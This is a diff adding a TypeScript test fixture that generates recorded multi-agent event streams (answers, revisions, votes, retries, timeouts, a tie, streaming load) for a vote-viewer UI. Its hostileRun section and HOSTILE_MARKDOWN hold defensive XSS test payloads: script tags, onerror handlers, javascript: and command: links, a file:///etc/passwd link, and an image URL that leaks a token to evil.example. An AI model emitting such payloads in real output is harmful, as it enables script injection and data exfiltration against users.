@@ -1,0 +1,274 @@
+// Recorded event streams for the vote-viewer tests, produced by the real engine with scripted agents
+// (src/core/engine/test-team.ts): revisions and stale votes, a rate-limited retry, a turn timeout, a failing agent,
+// tool calls, reasoning, usage and a budget; a tie; hostile model output. Times are stretched so the views show
+// realistic durations (the scripted agents answer in milliseconds).
+
+import { ProviderError } from '../../src/core/providers/types';
+import { reply, type Script, type ScriptedReply } from '../../src/core/providers/scripted';
+import type { RunEvent, RunEventBody } from '../../src/core/engine/events';
+import { reduceEvents } from '../../src/core/engine/run-state';
+import { boardHasAnswers, runTeam, type TeamMember } from '../../src/core/engine/test-team';
+
+const usage = { inputTokens: 1850, cachedInputTokens: 600, outputTokens: 420 };
+const pricing = { inputPerMillion: 2.5, cachedInputPerMillion: 1.25, outputPerMillion: 10 };
+const withUsage = (r: ScriptedReply, extra: Partial<ScriptedReply> = {}): ScriptedReply => ({ usage, ...r, ...extra });
+
+export const TASK = `Refactor \`parseConfig()\` in src/config.ts so it validates its input and returns typed errors instead of throwing.
+
+\`\`\`ts
+export function parseConfig(text: string): Config {
+  const raw = JSON.parse(text);
+  return { port: raw.port, host: raw.host ?? 'localhost' };
+}
+\`\`\``;
+
+const ANSWER_A1 = `Validate each field and return a result type:
+
+\`\`\`ts
+type ConfigError = { field: string; message: string };
+type Result<T> = { ok: true; value: T } | { ok: false; errors: ConfigError[] };
+
+export function parseConfig(text: string): Result<Config> {
+  let raw: unknown;
+  try {
+    raw = JSON.parse(text);
+  } catch (e) {
+    return { ok: false, errors: [{ field: '(root)', message: \`not JSON: \${(e as Error).message}\` }] };
+  }
+  const errors: ConfigError[] = [];
+  const r = raw as Record<string, unknown>;
+  if (typeof r.port !== 'number' || !Number.isInteger(r.port)) errors.push({ field: 'port', message: 'must be an integer' });
+  if (r.host !== undefined && typeof r.host !== 'string') errors.push({ field: 'host', message: 'must be a string' });
+  return errors.length ? { ok: false, errors } : { ok: true, value: { port: r.port as number, host: (r.host as string) ?? 'localhost' } };
+}
+\`\`\`
+
+- Callers check \`ok\` instead of catching.
+- Every problem is reported at once, not only the first.`;
+
+const ANSWER_B1 = `Use **zod**: \`ConfigSchema.safeParse(JSON.parse(text))\` and map the issues to \`ConfigError[]\`.`;
+
+const ANSWER_B2 = `Use **zod**, and keep JSON errors apart from schema errors:
+
+\`\`\`ts
+const ConfigSchema = z.object({ port: z.number().int().min(1).max(65535), host: z.string().default('localhost') });
+
+export function parseConfig(text: string): Result<Config> {
+  let raw: unknown;
+  try { raw = JSON.parse(text); } catch (e) { return fail('(root)', \`not JSON: \${(e as Error).message}\`); }
+  const r = ConfigSchema.safeParse(raw);
+  return r.success ? { ok: true, value: r.data } : { ok: false, errors: r.error.issues.map(toConfigError) };
+}
+\`\`\`
+
+| input | result |
+|---|---|
+| \`{"port": 80}\` | ok, host \`localhost\` |
+| \`{"port": "80"}\` | error on \`port\` |
+| \`not json\` | error on \`(root)\` |
+
+Port range is checked too (see the [zod docs](https://zod.dev/api#numbers)).`;
+
+const ANSWER_C1 = `Throwing is fine if the error is typed: \`class ConfigError extends Error { constructor(readonly field: string, message: string) }\`. Callers \`catch (e) { if (e instanceof ConfigError) … }\`.`;
+
+const ANSWER_E1 = `Return \`Config | Error[]\` and let callers use \`Array.isArray\`.`;
+
+/** A script that returns the replies in order (the last one repeats). */
+const seq = (...replies: ScriptedReply[]): Script => (_req, i) => replies[Math.min(i, replies.length - 1)];
+
+function stretch(events: RunEvent[], factor: number): RunEvent[] {
+  return events.map((e) => {
+    const out = { ...e, t: Math.round(e.t * factor) } as RunEvent;
+    if (out.type === 'retry') out.delayMs = Math.round(out.delayMs * factor);
+    if (out.type === 'run_ended') out.durationMs = Math.round(out.durationMs * factor);
+    return out;
+  });
+}
+
+/** Renumbers seq gap-free (after events were inserted or removed). */
+export function renumber(events: RunEvent[]): RunEvent[] {
+  return events.map((e, i) => ({ ...e, seq: i + 1 }));
+}
+
+/**
+ * Five agents: agent1 reads a file first (tool call) and answers; agent2 answers, then revises (agent2.2), which
+ * makes the votes already cast for agent2.1 stale; agent3 is rate-limited once (retry) and reasons; agent4 keeps
+ * failing (server errors) and is dropped; agent5's first turn times out and is restarted. Consensus on agent2.2.
+ */
+export async function fullRun(): Promise<RunEvent[]> {
+  const members: TeamMember[] = [
+    {
+      id: 'careful-reviewer',
+      pricing,
+      script: seq(
+        withUsage({ text: 'Let me read the current implementation first.', toolCalls: [{ name: 'read_file', arguments: { path: 'src/config.ts' } }], delayMs: 20 }),
+        withUsage({ ...reply.answer(ANSWER_A1), text: 'A result type keeps errors explicit; drafting it now.\n\n', delayMs: 20 }),
+        withUsage(reply.vote('agent2', 'agent2.1 is shorter than mine and uses a schema library the project already has.', { delayMs: 40 })),
+        withUsage(reply.vote('agent2', 'agent2.2 separates JSON errors from schema errors and checks the port range; the table documents the behaviour.')),
+      ),
+      toolbox: {
+        tools: [{ name: 'read_file', description: 'Read a file of the workspace', parameters: { type: 'object', properties: { path: { type: 'string' } } } }],
+        execute: async (call) => ({ ok: true, content: `export function parseConfig(text: string): Config { … } // ${call.arguments.length} bytes of arguments` }),
+      },
+    },
+    {
+      id: 'pragmatic-engineer',
+      pricing,
+      script: seq(
+        withUsage({ ...reply.answer(ANSWER_B1), text: 'zod is already a dependency.', delayMs: 10 }),
+        withUsage({ ...reply.answer(ANSWER_B2), text: 'My first answer skipped JSON syntax errors; revising.\n\n', delayMs: 80 }),
+        withUsage(reply.vote('agent2', 'agent2.2 covers JSON and schema errors with the least code.')),
+      ),
+    },
+    {
+      id: 'creative-solver',
+      pricing: null,
+      script: (req, i) => {
+        if (i === 0) return { error: new ProviderError('rate_limit', '429 Too Many Requests: slow down', { status: 429, retryAfterMs: 40 }) };
+        if (!boardHasAnswers(req) || i === 1) return withUsage({ ...reply.answer(ANSWER_C1), reasoning: 'The task says *instead of throwing*, but a typed exception is idiomatic too. I will argue for it briefly.', text: 'An alternative view:', delayMs: 20 });
+        if (i === 2) return withUsage(reply.vote('agent2', 'Schema-based validation (agent2.1) is the least code.', { delayMs: 40 }));
+        return withUsage(reply.vote('agent2', 'agent2.2: complete, and its table documents the edge cases.'));
+      },
+    },
+    {
+      id: 'security-auditor',
+      pricing,
+      script: () => ({ error: new ProviderError('server', '500 Internal Server Error (upstream overloaded)', { status: 500 }) }),
+    },
+    {
+      id: 'fast-drafter',
+      pricing,
+      script: (req, i) => {
+        if (i === 0) return { ...reply.answer('too slow'), text: 'Drafting…', delayMs: 2000 };
+        if (!boardHasAnswers(req) || i === 1) return withUsage({ ...reply.answer(ANSWER_E1), delayMs: 10 });
+        if (i === 2) return withUsage(reply.vote('agent1', 'agent1.1 is explicit and has no dependency.', { delayMs: 30 }));
+        return withUsage(reply.vote('agent2', 'agent2.2 now handles everything agent1.1 did, with less code.'));
+      },
+    },
+  ];
+  const team = runTeam(members, {
+    task: TASK,
+    timeouts: { agentTurnTimeoutSeconds: 0.25 },
+    retry: { maxDelayMs: 200 },
+    orchestrator: { budget: { maxCostUsd: 0.25, maxTotalTokens: 120_000 } },
+  });
+  await team.result;
+  return stretch(team.events, 90);
+}
+
+/** Two agents vote for each other: a tie, broken by agent order. */
+export async function tieRun(): Promise<RunEvent[]> {
+  const vote = (target: string, reason: string): Script => (req) => (boardHasAnswers(req) ? withUsage(reply.vote(target, reason)) : withUsage(reply.answer(`Answer from ${target === 'agent1' ? 'agent2' : 'agent1'}: use a lookup table.`)));
+  const team = runTeam(
+    [
+      { id: 'alpha', script: vote('agent2', 'agent2.1 is clearer.'), pricing },
+      { id: 'beta', script: vote('agent1', 'agent1.1 is more complete.'), pricing },
+    ],
+    { task: 'Pick the better data structure.' },
+  );
+  await team.result;
+  return stretch(team.events, 200);
+}
+
+export const HOSTILE_MARKDOWN = [
+  '# Totally normal answer',
+  '<script>window.__pwned = "script"</script>',
+  '<img src="x" onerror="window.__pwned = \'img\'">',
+  '<iframe src="https://evil.example/"></iframe><style>body { display: none }</style>',
+  '[click me](javascript:window.__pwned=%22link%22) and [run a command](command:workbench.action.files.delete) and [data](data:text/html,<script>alert(1)</script>) and [file](file:///etc/passwd) and [plain http](http://insecure.example/)',
+  '![exfiltrate](https://evil.example/leak.png?secret=TOKEN)',
+  '<a href="https://raw-html.example/">raw html link</a> <https://autolink.example/path>',
+  'A [safe link](https://example.com/docs?a=1&b=2).',
+  '```html\n<script>window.__pwned = "fence"</script>\n```',
+  `Unbroken: ${'A'.repeat(20_000)}`,
+  '```',
+  `const line = "${'x'.repeat(5_000)}";`,
+  '```',
+  Array.from({ length: 200 }, (_, i) => `${'  '.repeat(i)}- level ${i}`).join('\n'),
+  '',
+  Array.from({ length: 60 }, (_, i) => `${'>'.repeat(i + 1)} quote ${i}`).join('\n'),
+  '',
+  'END-OF-HOSTILE-ANSWER',
+].join('\n\n');
+
+/** One agent answers with hostile markdown; the other's vote reason and the task carry raw HTML too. */
+export async function hostileRun(): Promise<RunEvent[]> {
+  const team = runTeam(
+    [
+      {
+        id: 'mallory',
+        script: (req) =>
+          boardHasAnswers(req)
+            ? reply.vote('agent1', '<img src=x onerror="window.__pwned=\'reason\'"> best answer')
+            : { ...reply.answer(HOSTILE_MARKDOWN), text: '<script>window.__pwned="stream"</script> **streamed** [x](javascript:alert(1))', toolCalls: [{ name: 'new_answer', arguments: { content: HOSTILE_MARKDOWN } }] },
+      },
+      { id: 'trent', script: (req) => (boardHasAnswers(req) ? reply.vote('agent1', 'It <b>renders</b> everything.') : reply.answer('<b>bold?</b> no: text.')) },
+    ],
+    { task: 'Explain <script>window.__pwned="task"</script> XSS <img src=x onerror="window.__pwned=\'task-img\'">' },
+  );
+  await team.result;
+  return stretch(team.events, 100);
+}
+
+const STREAM_TEXT = `I'll compare the two approaches.
+
+1. **Result type**: explicit, no exceptions.
+2. **zod**: less code, the schema doubles as documentation.
+
+\`\`\`ts
+const r = ConfigSchema.safeParse(raw);
+if (!r.success) return { ok: false, errors: r.error.issues.map(toConfigError) };
+\`\`\`
+
+The second one also gives range checks for free, so I'm leaning towards`;
+
+/**
+ * The full run cut while round 2 is in progress, with live streams added: agents streaming markdown, one thinking
+ * (reasoning only), one waiting out a retry. Ends with `run_ended` absent (the run is live).
+ */
+export async function midRun(): Promise<{ events: RunEvent[]; streaming: string[] }> {
+  const all = await fullRun();
+  const cut = all.findIndex((e) => e.type === 'answer_added' && e.label === 'agent2.2');
+  const head = all.slice(0, cut);
+  const state = reduceEvents(head);
+  const t = head[head.length - 1].t;
+  const extra: RunEventBody[] = [];
+  const live = state.agents.filter((a) => a.status !== 'failed').map((a) => a.id);
+  const texts = [STREAM_TEXT, 'Checking agent1.1 against agent2.1: both reject a string `port`, but only agent1.1 reports', 'Reviewing…'];
+  const turn = (agentId: string): RunEventBody => ({ type: 'turn_started', agentId, round: state.round + 1, boardRevision: 4, voteOnly: false });
+  const streaming = [live[0], live[2]].filter(Boolean);
+  extra.push({ type: 'round_started', round: state.round + 1, agentIds: live });
+  // live[0] and live[2] stream markdown; live[1] is thinking (reasoning only); live[3] waits out a rate limit.
+  if (live[1]) extra.push(turn(live[1]), { type: 'reasoning_delta', agentId: live[1], text: 'The user asked for typed errors. agent1.1 returns them; agent2.1 maps zod issues. Which handles `port: "80"`? Both. Which handles invalid JSON? Only agent1.1.' });
+  if (live[3]) extra.push(turn(live[3]), { type: 'retry', agentId: live[3], attempt: 2, delayMs: 9000, error: '429 Too Many Requests: slow down' });
+  streaming.forEach((id, i) => {
+    extra.push(turn(id));
+    const text = texts[i % texts.length];
+    for (let k = 0; k < text.length; k += 24) extra.push({ type: 'text_delta', agentId: id, text: text.slice(k, k + 24) });
+  });
+  const events = renumber([...head, ...extra.map((b, i) => ({ ...b, seq: 0, t: t + 200 + i * 20 }) as RunEvent)]);
+  return { events, streaming };
+}
+
+/**
+ * A synthetic stream: `agents` agents each streaming `tokensPerSecond` tokens per second for `seconds`, as one
+ * text_delta per token (the worst case for the host: no provider batching), with usage events now and then.
+ */
+export function* streamingLoad(agents: number, tokensPerSecond: number, seconds: number, tickMs = 10): Generator<{ atMs: number; bodies: RunEventBody[] }> {
+  const words = ['the ', 'config ', '`port` ', 'is ', 'validated ', 'with ', '**zod**', ', ', 'and ', 'errors ', 'are ', 'typed', '.\n', '\n', '- item ', '```ts\n', 'const x = 1;\n', '```\n'];
+  const perTick = (tokensPerSecond * tickMs) / 1000;
+  const owed = new Array(agents).fill(0);
+  let n = 0;
+  for (let at = 0; at < seconds * 1000; at += tickMs) {
+    const bodies: RunEventBody[] = [];
+    for (let a = 0; a < agents; a++) {
+      owed[a] += perTick;
+      while (owed[a] >= 1) {
+        owed[a] -= 1;
+        bodies.push({ type: 'text_delta', agentId: `agent-${a + 1}`, text: words[n++ % words.length] });
+      }
+      if (at % 2000 === 0 && at > 0) bodies.push({ type: 'usage', agentId: `agent-${a + 1}`, usage: { inputTokens: 1500, cachedInputTokens: 0, outputTokens: 400 }, costUsd: 0.004, phase: 'coordination' });
+    }
+    yield { atMs: at, bodies };
+  }
+}
